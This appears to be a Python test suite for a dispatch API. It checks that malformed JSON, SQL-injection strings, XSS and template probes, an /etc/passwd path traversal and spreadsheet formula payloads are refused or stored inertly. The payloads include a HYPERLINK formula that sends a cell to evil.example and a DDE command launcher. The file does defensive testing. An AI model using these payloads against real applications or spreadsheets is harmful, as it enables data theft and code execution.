"""What hostile clients send: it is refused or kept as it is, and never breaks anything."""

import csv
import json
from collections.abc import Callable
from contextlib import nullcontext
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import time_machine
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session, select

from api.http.access import POLICY
from api.http.limits import MAX_BODY_BYTES, SAFE_HEADERS, SOLVE_PATH
from api.http.problems import json_pointer
from dispatch import engines, store
from dispatch.files.folder import export_folder, import_folder
from dispatch.models import Job, LogEntry, Site
from dispatch.settings import Settings
from tests.api.conftest import at, stored, tokens_of
from tests.api.test_openapi import OPERATIONS

pytestmark = pytest.mark.usefixtures("company")
on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

JSON = {"Content-Type": "application/json"}
IDS = {
    "job_id": "J-1",
    "attachment_id": "none",
    "technician_id": "T01",
    "depot_id": "K1",
    "day": "2026-11-23",
    "part_id": "none",
    "run_id": "run-1",
    "plan_id": "1",
    "plan_version": "1",
    "account_id": "mai",
    "key_id": "k-1",
    "absence_id": "none",
    "source_id": "tb",
    "template_id": "none",
    "rule_id": "none",
    "asset_id": "none",
    "site_id": "none",
    "link_id": "none",
    "device_id": "none",
    "alert_id": "1",
    "issue_id": "no_place:J-1",
    "dead_letter_id": "1",
    "webhook_id": "W-1",
    "delivery_id": "1",
    "token": "none",
}
KEEPING = {"take_alerts", "take_alerts_of_source"}
"""Operations that keep whatever comes."""
MALFORMED = {
    "an unfinished object": b'{"a": ',
    "arrays 100,000 deep": b"[" * 100_000,
    "arrays 100,000 deep, and closed": b"[" * 100_000 + b"]" * 100_000,
    "objects 100,000 deep": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "900,000 digits": b"9" * 900_000,
    "900,000 digits in a field": b'{"duration_minutes": ' + b"9" * 900_000 + b"}",
    "a number beyond all floats": b'{"duration_minutes": 1e999999}',
    "a negative number beyond all floats": b'{"latitude": -1e999999, "at": 1e999}',
    "no number": b'{"duration_minutes": NaN, "latitude": NaN}',
    "infinity": b'{"latitude": Infinity, "longitude": -Infinity}',
    "lone surrogates": b'{"title": "\\ud800", "id": "\\udfff", "password": "\\ud800"}',
    "a lone surrogate as a name": b'{"\\ud800": 1}',
    "NUL": b'{"title": "\\u0000", "id": "a\\u0000b", "user_name": "\\u0000"}',
    "no UTF-8": b'{"title": "\xff\xfe"}',
    "the same name twice": b'{"title": "a", "title": "b", "id": 1, "id": 2}',
    "5,000 unknown names": json.dumps({f"x{n}": n for n in range(5_000)}).encode(),
    "__proto__": b'{"__proto__": {"role": "administrator"}, "constructor": 1, "__class__": 1}',
}


Senders = list[tuple[str, str, Callable[..., Any]]]


@pytest.fixture
def senders(client: TestClient, app: FastAPI) -> Senders:
    """Every operation that takes a body, with how to call it as somebody who may."""
    token = f"Bearer {tokens_of(app, 'hoa').access_token}"

    def sender(path: str, method: str, name: str) -> Callable[..., Any]:
        people_only = POLICY[name].people_only

        def send(content: bytes, headers: dict[str, str]) -> Any:
            shown = {"Authorization": token} if people_only else {}
            url = path.format(**IDS)
            return client.request(method, url, content=content, headers={**headers, **shown})

        return send

    return [
        (path, method, sender(path, method, operation["operationId"]))
        for path, method, operation in OPERATIONS
        if "application/json" in operation.get("requestBody", {}).get("content", ())
        and operation["operationId"] not in KEEPING
    ]


@on_sqlite
@pytest.mark.parametrize("content", MALFORMED.values(), ids=MALFORMED.keys())
def test_what_is_no_sound_alert_is_kept_as_a_dead_letter(
    client: TestClient, content: bytes
) -> None:
    answer = client.post("/alerts", content=content, headers=JSON)
    assert answer.status_code == 202
    [receipt] = answer.json()["receipts"]
    assert receipt["faults"]
    assert client.get(f"/dead-letters/{receipt['dead_letter_id']}").status_code == 200
    assert len(answer.content) < 200_000


@on_sqlite
@pytest.mark.parametrize("content", MALFORMED.values(), ids=MALFORMED.keys())
def test_what_is_no_sound_body_is_refused_by_every_operation(
    senders: Senders, content: bytes
) -> None:
    assert len(content) <= MAX_BODY_BYTES
    for path, method, send in senders:
        answer = send(content=content, headers=JSON)
        assert answer.status_code in (400, 422), (path, method, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
        json.loads(answer.content)
        assert len(answer.content) < 200_000


@on_sqlite
@pytest.mark.parametrize("name", ["title", "x", "a/b"])
def test_a_name_that_stands_there_twice_is_refused_by_every_operation(
    senders: Senders, name: str
) -> None:
    """Also of an object within, and where both times the same is said."""
    member = f'"{name}": 1'
    for path, _, send in senders:
        answer = send(content=f"{{{member}, {member}}}".encode(), headers=JSON)
        if path == SOLVE_PATH:
            # A problem is a file, of which every fault has its line.
            assert (answer.status_code, name in answer.json()["detail"]) == (400, True)
            continue
        fault = {"code": "duplicate", "where": json_pointer([name])}
        assert fault.items() <= answer.json()["faults"][0].items(), path
        answer = send(content=f'{{"b": [{{{member}, "c": 2, {member}}}]}}'.encode(), headers=JSON)
        [found] = answer.json()["faults"]
        assert (found["code"], found["where"]) == ("duplicate", json_pointer(["b", 0, name])), path


@on_sqlite
def test_a_body_that_is_too_large_or_of_another_kind_is_refused_by_every_operation(
    senders: Senders,
) -> None:
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for path, _, send in senders:
        # Problems may be larger: ``routes/test_solving.py``.
        if path != SOLVE_PATH:
            assert send(content=b" " * (MAX_BODY_BYTES + 1), headers=JSON).status_code == 413
        assert send(content=b"a=1", headers=form).status_code == 415


@on_sqlite
def test_an_answer_repeats_no_more_than_a_little_of_a_hostile_body(client: TestClient) -> None:
    answer = client.post("/jobs", json={"title": "x" * 900_000, "site_id": "y" * 90_000})
    assert answer.status_code == 422
    assert len(answer.content) < 10_000


INJECTIONS = [
    "'; DROP TABLE job; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM log_entry",
    "%' UNION SELECT password_hash FROM account --",
    "\\'; --",
    "{{7*7}} ${7*7} %s %(x)s :x ?",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_texts_that_look_like_sql_are_texts(
    client: TestClient, job: dict[str, Any], engine: Engine, text: str
) -> None:
    site = {"name": text, "address": text, "territory": text.replace(";", ","), "phone": text}
    made = client.post(
        "/jobs",
        json={**job, "site_id": None, "site": site, "title": text, "hold_reason": text},
        headers={"Idempotency-Key": text.replace(" ", "_")},
    )
    assert made.status_code == 201, made.text
    read = client.get(made.headers["location"]).json()
    assert (read["title"], read["hold_reason"]) == (text, text)
    with Session(engine) as session:
        assert session.get_one(Site, read["site_id"]).name == text
        [entry] = session.exec(select(LogEntry).where(LogEntry.entity == "job"))
        assert entry.after is not None
        assert entry.after["title"] == text


@pytest.mark.parametrize("text", INJECTIONS)
def test_parameters_that_look_like_sql_find_nothing_and_break_nothing(
    client: TestClient, job: dict[str, Any], text: str
) -> None:
    client.post("/jobs", json=job)
    for path, method, operation in OPERATIONS:
        if method != "get" or path == "/events":  # which refuses all but names of types
            continue
        query = [one["name"] for one in operation.get("parameters", ()) if one["in"] == "query"]
        for name in query:
            answer = client.get(path.format(**IDS), params={name: text})
            assert answer.status_code in (200, 404, 409, 422), (path, name, answer.text)
            if answer.status_code == 200:
                [found] = [some for some in answer.json().values() if isinstance(some, list)]
                assert found == [], (path, name)
        # As a part of a path, without the signs that would make another path of it.
        injected = text.replace("/", "").replace("?", "")
        answer = client.get(path.format(**dict.fromkeys(IDS, injected)))
        assert answer.status_code in (200, 403, 404, 422), (path, answer.text)
    body = {"user_name": text, "password": text}
    assert client.post("/sign-in", json=body).status_code in (401, 422)
    assert stored(client) == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+84 24 3825 0000",
    "-2+3",
    "@SUM(A1)",
    "'=1+1",
    "''@x",
    "; =1",
]


@pytest.fixture
def told(client: TestClient, job: dict[str, Any]) -> list[str]:
    """Jobs that hold formulas wherever texts go in."""
    for text in FORMULAS:
        site = {"name": text, "address": text, "phone": text, "territory": text.replace(";", ",")}
        body = {**job, "site_id": None, "site": site, "title": text, "hold_reason": text}
        assert client.post("/jobs", json=body).status_code == 201
    return FORMULAS


@on_sqlite
def test_no_formula_gets_into_an_export_and_an_import_gives_every_text_back(
    told: list[str], engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    with Session(store.reading(engine)) as session:
        export_folder(session, tmp_path, settings)
    for file in tmp_path.glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as opened:
            for cell in (cell for row in csv.reader(opened) for cell in row):
                # A number with its sign is no formula.
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell)
    copy = f"sqlite:///{tmp_path / 'copy.db'}"
    store.migrate(copy)
    other = engines.connect(copy)
    with Session(other) as session:
        import_folder(session, tmp_path, actor="test", settings=settings, allow_past=True)
        session.commit()
        assert sorted(session.exec(select(Job.title))) == sorted(told)
        texts = {(site.name, site.address, site.phone) for site in session.exec(select(Site))}
    other.dispose()
    assert {(text, text, text) for text in told} <= texts


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@on_sqlite
def test_every_answer_says_what_browsers_may_do_with_it(
    client: TestClient, app: FastAPI, job: dict[str, Any], day: date
) -> None:
    made = client.post("/jobs", json=job)
    answers = [
        made,
        client.get("/jobs"),
        client.get("/health"),
        client.get("/nowhere"),
        client.post("/jobs", content=b"{", headers=JSON),
        client.post("/jobs", content=b" " * (MAX_BODY_BYTES + 1), headers=JSON),
        client.get("/jobs", headers={"Authorization": "Bearer x"}),
        client.post("/sign-in", json={"user_name": "x", "password": "y"}),
    ]
    for answer in answers:
        assert {name: answer.headers[name] for name in SAFE_HEADERS} == SAFE_HEADERS
    route = client.get(f"/technicians/T01/routes/{day}")
    assert route.headers["cache-control"] == "private, no-cache"


def test_everything_that_changes_something_is_in_the_log(
    client: TestClient, planned: dict[str, Any], job: dict[str, Any], day: date, engine: Engine
) -> None:
    """Positions are not: they come by the minute, and only the last is kept."""

    def logged() -> int:
        with Session(engine) as session:
            return len(session.exec(select(LogEntry)).all())

    plan = f"/plans/{planned['plan_id']}"
    soon = {"starts_on": str(day), "seconds": 0.1}
    run = client.post("/plans", json=soon).json()["id"]
    key = client.post("/keys", json={"name": "x"}).json()["id"]
    minh = {"id": "minh", "name": "Minh", "role": "dispatcher"}
    report = {"id": "r-1", "job_id": "J-3", "kind": "en_route", "at": at(day, "07:00")}
    writes = {
        ("post", "/jobs"): {**job, "id": "J-3", "skills": []},
        ("patch", "/jobs/{job_id}"): {"title": "Máy giặt"},
        ("post", f"{plan}/publish"): None,
        ("post", "/jobs/{job_id}/place"): {"day": str(day)},
        ("post", "/technicians/{technician_id}/reports"): report,
        ("post", "/jobs/{job_id}/cancel"): None,
        ("post", "/plans"): soon,
        ("post", "/runs/{run_id}/cancel"): None,
        ("post", "/accounts"): minh,
        ("patch", "/accounts/{account_id}"): {"name": "Phạm Quang Minh"},
        ("post", "/accounts/{account_id}/reset-password"): None,
        ("post", "/keys"): {"name": "Portal"},
        ("post", "/keys/{key_id}/revoke"): None,
    }
    ids = {"job_id": "J-3", "technician_id": "T01", "run_id": run, "key_id": key}
    for (method, path), body in writes.items():
        before = logged()
        with time_machine.travel(at(day, "07:01")) if body is report else nullcontext():
            answer = client.request(method, path.format(account_id="minh", **ids), json=body)
        assert answer.status_code in (200, 201, 202), (path, answer.text)
        assert logged() > before, path
